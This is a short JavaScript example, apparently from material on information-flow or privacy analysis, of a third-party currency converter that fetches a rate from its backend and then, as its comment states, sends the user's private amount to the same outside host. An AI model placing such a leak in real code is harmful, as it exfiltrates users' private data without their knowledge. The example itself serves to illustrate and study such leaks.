// Third-party currency converter. Legitimately sends the target currency
// to its backend, then tries to ship the private amount there too.
function currencyConverter() {
  var toCur = document.getElementById("to").value;
  fetch("http://currConv.com/conv.jsp?toCur=" + toCur, function (e) {
    var currencyRate = toNumber(e.responseText);
    var aAmt = document.getElementById("amt").value;
    var convAmt = toNumber(aAmt) * currencyRate;
    document.getElementById("camt").innerText = convAmt;
    sendRequest("http://currConv.com/amount.jsp?atc=" + aAmt);
  });
}

var sel = document.getElementById("to");
sel.addEventListener("change", function (e) {
  currencyConverter();
});
